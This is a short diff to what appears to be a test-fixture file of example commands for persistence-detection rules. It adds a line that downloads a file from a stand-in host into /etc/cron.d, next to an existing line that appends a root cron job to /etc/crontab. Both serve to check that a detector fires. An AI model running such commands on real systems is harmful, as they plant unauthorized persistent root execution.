@@ -27,7 +27,7 @@ export const PERSISTENCE_EXAMPLES: RuleExamples = {
     silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
   },
   'persistence.cron-file': {
-    fires: ['echo "* * * * * root /tmp/x" >> /etc/crontab'],
+    fires: ['echo "* * * * * root /tmp/x" >> /etc/crontab', 'curl -sLo /etc/cron.d/x https://x.example/y'],
     silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
   },
   'persistence.crontab': {
